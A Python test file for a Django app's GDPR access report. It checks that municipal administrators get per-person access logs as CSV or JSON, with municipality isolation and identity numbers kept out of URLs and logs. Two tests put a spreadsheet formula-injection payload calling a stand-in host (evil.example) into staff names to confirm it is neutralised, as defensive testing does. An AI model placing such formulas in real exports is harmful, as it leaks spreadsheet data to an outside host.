"""The access report (GDPR art. 15): an administrator gets every access to one person's cases.

- anne: administrator in Molde
- arne: administrator in Aukra, who must get nothing of Molde's
- sara: caseworker in Molde (Oppvekst), who opens Kari's case
- liv: leader in Molde, who downloads from it
- kari's case in Molde, per's case in Molde, ola's case in Aukra
- look-ups of a person in the registers, made by a staff member in one municipality
"""

import csv
import io
import json
import logging
from datetime import timedelta

import pytest
from django.conf import settings
from django.test import Client
from django.utils import timezone

from conftest import login
from servicetorg.accounts.constants import Role
from servicetorg.accounts.gdpr_views import spreadsheet_safe
from servicetorg.accounts.models import AccessReportRequest
from servicetorg.cases import actions
from servicetorg.cases.tests.conftest import make_case
from servicetorg.cases.tests.conftest import staff as add_staff
from servicetorg.identity.actions import record_register_lookup
from servicetorg.identity.demo import demo_people
from servicetorg.identity.models import LookupPurpose

pytestmark = pytest.mark.django_db
URL = "/{}/ansatte/innsyn/"


def as_staff(user) -> Client:
    client = Client()
    client.force_login(user, backend="django.contrib.auth.backends.ModelBackend")
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


def read_csv(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.fixture
def anne(molde):
    return add_staff(molde, "anne", Role.ADMIN)


@pytest.fixture
def arne(aukra):
    return add_staff(aukra, "arne", Role.ADMIN)


@pytest.fixture
def sara(molde):
    return add_staff(molde, "sara", Role.CASEWORKER, ["Oppvekst"])


@pytest.fixture
def liv(molde):
    return add_staff(molde, "liv", Role.LEADER)


@pytest.fixture
def cases(service, aukra_service, kari, ola, sara, liv):
    """Kari's case seen by Sara, Liv and Kari herself; Per's and Ola's cases seen by others."""
    per = demo_people()[2]
    mine = make_case(service, kari)
    as_staff(sara).get(f"/molde/saksbehandling/sak/{mine.pk}/")
    actions.record_download(mine, "a-file", actor=liv)
    actions.take_case(mine, actor=sara, version=mine.version)
    login(Client(), kari).get(f"/mine-saker/{mine.pk}/")
    other = make_case(service, per)
    actions.record_case_view(other, actor=liv)
    aukra_case = make_case(aukra_service, ola)
    return {"kari": mine, "per": other, "ola": aukra_case}


def test_it_gives_the_admin_every_access_as_a_csv_file(anne, cases, kari):
    response = as_staff(anne).post(URL.format("molde"), {"pid": kari.pid})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="innsyn-molde-')
    header, *rows = read_csv(response)
    assert header == ["Time", "Case number", "Who", "Name", "User name", "Action", "Description"]
    number = cases["kari"].number
    assert [row[1:6] for row in rows] == [
        [number, "staff", "Sara Testesen", "sara", "view"],
        [number, "staff", "Liv Testesen", "liv", "download"],
        [number, "staff", "Sara Testesen", "sara", "change"],
        [number, "applicant", "the applicant", "", "view"],
    ]
    assert rows[2][6] == "Changed the case: Assigned"
    assert all(row[0][:4].isdigit() for row in rows)
    assert kari.pid not in response.content.decode()


def test_it_answers_in_json_too(anne, cases, kari):
    response = as_staff(anne).post(URL.format("molde"), {"pid": kari.pid, "format": "json"})
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.json"')
    data = json.loads(response.content)
    assert data["municipality"] == "molde"
    assert [(a["case"], a["who"], a["action"]) for a in data["accesses"]] == [
        (cases["kari"].number, "staff", "view"),
        (cases["kari"].number, "staff", "download"),
        (cases["kari"].number, "staff", "change"),
        (cases["kari"].number, "applicant", "view"),
    ]


def test_it_leaves_out_other_peoples_cases(anne, cases):
    per = demo_people()[2]
    response = as_staff(anne).post(URL.format("molde"), {"pid": per.pid})
    _header, *rows = read_csv(response)
    assert {row[1] for row in rows} == {cases["per"].number}
    assert len(rows) == 1


def test_it_gives_another_municipalitys_admin_nothing_of_molde(arne, cases, kari):
    client = as_staff(arne)
    response = client.post(URL.format("aukra"), {"pid": kari.pid})
    assert response.status_code == 200
    _header, *rows = read_csv(response)
    assert rows == []
    assert client.get(URL.format("molde")).status_code == 404
    assert client.post(URL.format("molde"), {"pid": kari.pid}).status_code == 404


def test_it_reports_aukras_cases_to_aukras_admin(arne, cases, ola):
    _header, *rows = read_csv(as_staff(arne).post(URL.format("aukra"), {"pid": ola.pid}))
    assert rows == []  # Ola's case was never opened by anyone
    actions.record_case_view(cases["ola"], actor=arne)
    _header, *rows = read_csv(as_staff(arne).post(URL.format("aukra"), {"pid": ola.pid}))
    assert [row[1:6] for row in rows] == [
        [cases["ola"].number, "staff", "Arne Testesen", "arne", "view"]
    ]


def test_it_refuses_other_roles(molde, sara, liv, cases, kari):
    owner = add_staff(molde, "tone", Role.SERVICE_OWNER)
    for user in (sara, liv, owner):
        client = as_staff(user)
        assert client.get(URL.format("molde")).status_code == 404
        assert client.post(URL.format("molde"), {"pid": kari.pid}).status_code == 404


def test_it_sends_visitors_and_residents_to_the_staff_login(cases, kari):
    for client in (Client(), login(Client(), kari)):
        response = client.post(URL.format("molde"), {"pid": kari.pid})
        assert response.status_code == 302
        assert response["Location"].startswith("/ansatt/logg-inn/")
        assert kari.pid not in response["Location"]


def test_it_neutralises_formulas_in_names(molde, anne, cases, kari):
    evil = add_staff(molde, "eve", Role.LEADER)
    evil.first_name, evil.last_name = '=HYPERLINK("http://evil.example/?x="&A1', "x"
    evil.save()
    actions.record_case_view(cases["kari"], actor=evil)
    _header, *rows = read_csv(as_staff(anne).post(URL.format("molde"), {"pid": kari.pid}))
    assert rows[-1][3] == '\'=HYPERLINK("http://evil.example/?x="&A1 x'


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+47 22", "'+47 22"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("Sara Testesen", "Sara Testesen"),
        ("2026/00001", "2026/00001"),
        ("", ""),
    ],
)
def test_it_makes_cells_safe_for_spreadsheets(value, safe):
    assert spreadsheet_safe(value) == safe


def test_it_keeps_the_identity_number_out_of_urls_and_logs(anne, cases, kari, caplog):
    client = as_staff(anne)
    form = client.get(URL.format("molde"))
    assert form.status_code == 200
    assert 'method="post"' in form.content.decode()
    # A number in the query string is ignored: no report, and the number is not echoed.
    asked = client.get(URL.format("molde"), {"pid": kari.pid})
    assert asked["Content-Type"].startswith("text/html")
    assert "Content-Disposition" not in asked
    with caplog.at_level(logging.INFO, logger="servicetorg"):
        response = client.post(URL.format("molde"), {"pid": kari.pid})
    assert "Location" not in response
    assert kari.pid not in response["Content-Disposition"]
    made = [r.getMessage() for r in caplog.records if "access report made" in r.getMessage()]
    assert len(made) == 1
    assert str(cases["kari"].pk) in made[0] and f"by={anne.pk}" in made[0]
    assert all(kari.pid not in r.getMessage() for r in caplog.records)


def test_it_refuses_an_invalid_number(anne, cases, caplog):
    client = as_staff(anne)
    with caplog.at_level(logging.INFO, logger="servicetorg"):
        response = client.post(URL.format("molde"), {"pid": "12345678901"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert "not a valid identity number" in response.content.decode()
    assert all("12345678901" not in r.getMessage() for r in caplog.records)
    short = client.post(URL.format("molde"), {"pid": "1234"})
    assert "11 digits" in short.content.decode()


# Each report is recorded: who, for which person, when; shown on the page.


def test_it_records_who_made_a_report_for_whom(anne, cases, kari, molde):
    before = timezone.now()
    as_staff(anne).post(URL.format("molde"), {"pid": kari.pid, "format": "json"})
    record = AccessReportRequest.objects.get()
    assert (record.municipality, record.requested_by, record.subject_pid) == (molde, anne, kari.pid)
    assert (record.requested_by_name, record.format, record.rows) == ("Anne Testesen", "json", 4)
    assert record.created_at >= before


def test_it_records_nothing_for_an_invalid_number(anne, cases):
    as_staff(anne).post(URL.format("molde"), {"pid": "12345678901"})
    assert not AccessReportRequest.objects.exists()


def test_it_shows_recent_reports_without_the_number(anne, cases, kari):
    client = as_staff(anne)
    assert (
        "No access reports have been produced yet."
        in client.get(URL.format("molde")).content.decode()
    )
    client.post(URL.format("molde"), {"pid": kari.pid})
    body = client.get(URL.format("molde")).content.decode()
    assert "Anne Testesen" in body
    assert f"{kari.pid[:6]} *****" in body
    assert kari.pid not in body


def test_it_shows_another_municipality_none_of_them(anne, arne, cases, kari):
    as_staff(anne).post(URL.format("molde"), {"pid": kari.pid})
    body = as_staff(arne).get(URL.format("aukra")).content.decode()
    assert "Anne Testesen" not in body
    assert kari.pid[:6] not in body


def test_the_staff_list_links_to_the_report(anne):
    body = as_staff(anne).get("/molde/ansatte/").content.decode()
    assert 'href="/molde/ansatte/innsyn/"' in body


# The staff's look-ups of the person in the registers are accesses too: in the report, in time order.

LOOKED_UP = "Looked up in the registers: Registering an application on the person's behalf"


def look_up(person, municipality, actor, *, days_ago: int = 0):
    lookup = record_register_lookup(
        person.pid, municipality=municipality, purpose=LookupPurpose.REGISTRATION, actor=actor
    )
    if days_ago:
        lookup.at = timezone.now() - timedelta(days=days_ago)
        lookup.save(update_fields=["at"])
    return lookup


def test_it_reports_look_ups_in_the_registers_in_time_order(
    anne, sara, liv, molde, cases, kari, caplog
):
    look_up(kari, molde, sara, days_ago=1)  # before the case
    look_up(kari, molde, liv)  # after every access to it
    with caplog.at_level(logging.INFO, logger="servicetorg"):
        response = as_staff(anne).post(URL.format("molde"), {"pid": kari.pid})
    _header, *rows = read_csv(response)
    number = cases["kari"].number
    assert [row[1:6] for row in rows] == [
        ["", "staff", "Sara Testesen", "sara", "lookup"],
        [number, "staff", "Sara Testesen", "sara", "view"],
        [number, "staff", "Liv Testesen", "liv", "download"],
        [number, "staff", "Sara Testesen", "sara", "change"],
        [number, "applicant", "the applicant", "", "view"],
        ["", "staff", "Liv Testesen", "liv", "lookup"],
    ]
    assert rows[0][6] == rows[-1][6] == LOOKED_UP
    assert [row[0] for row in rows] == sorted(row[0] for row in rows)
    assert kari.pid not in response.content.decode()
    assert AccessReportRequest.objects.get().rows == 6
    made = [r.getMessage() for r in caplog.records if "access report made" in r.getMessage()]
    assert len(made) == 1 and "rows=6 lookups=2" in made[0]
    assert all(kari.pid not in r.getMessage() for r in caplog.records)


def test_it_reports_look_ups_in_json_too(anne, sara, molde, cases, kari):
    look_up(kari, molde, sara, days_ago=1)
    response = as_staff(anne).post(URL.format("molde"), {"pid": kari.pid, "format": "json"})
    data = json.loads(response.content)
    first = data["accesses"][0]
    assert first == {
        "time": first["time"],
        "case": "",
        "who": "staff",
        "name": "Sara Testesen",
        "username": "sara",
        "action": "lookup",
        "description": LOOKED_UP,
    }
    assert first["time"] < data["accesses"][1]["time"]
    assert len(data["accesses"]) == 5
    assert kari.pid not in response.content.decode()


def test_it_reports_a_person_with_look_ups_and_no_case(anne, sara, molde, ola):
    look_up(ola, molde, sara)
    _header, *rows = read_csv(as_staff(anne).post(URL.format("molde"), {"pid": ola.pid}))
    assert [row[1:7] for row in rows] == [
        ["", "staff", "Sara Testesen", "sara", "lookup", LOOKED_UP]
    ]


def test_it_leaves_out_other_peoples_and_other_municipalities_look_ups(
    anne, arne, sara, molde, aukra, cases, kari
):
    look_up(demo_people()[2], molde, sara)  # Per, in Molde
    look_up(kari, aukra, arne)  # Kari, in Aukra
    _header, *rows = read_csv(as_staff(anne).post(URL.format("molde"), {"pid": kari.pid}))
    assert "lookup" not in {row[5] for row in rows}
    assert len(rows) == 4
    # Aukra's administrator gets Aukra's look-up of Kari, and nothing of Molde's.
    _header, *rows = read_csv(as_staff(arne).post(URL.format("aukra"), {"pid": kari.pid}))
    assert [row[1:6] for row in rows] == [["", "staff", "Arne Testesen", "arne", "lookup"]]


def test_it_keeps_the_name_of_a_deleted_staff_member_who_looked_up(anne, molde, kari):
    gone = add_staff(molde, "gone", Role.CASEWORKER)
    look_up(kari, molde, gone)
    gone.delete()
    _header, *rows = read_csv(as_staff(anne).post(URL.format("molde"), {"pid": kari.pid}))
    assert [row[1:6] for row in rows] == [["", "staff", "Gone Testesen", "", "lookup"]]


def test_it_neutralises_formulas_in_the_names_of_those_who_looked_up(molde, anne, cases, kari):
    evil = add_staff(molde, "eve", Role.CASEWORKER)
    evil.first_name, evil.last_name = '=HYPERLINK("http://evil.example/?x="&A1', "x"
    evil.save()
    look_up(kari, molde, evil)
    evil.username = "@SUM(A1)"
    evil.save()
    _header, *rows = read_csv(as_staff(anne).post(URL.format("molde"), {"pid": kari.pid}))
    assert rows[-1][3:6] == ['\'=HYPERLINK("http://evil.example/?x="&A1 x', "'@SUM(A1)", "lookup"]
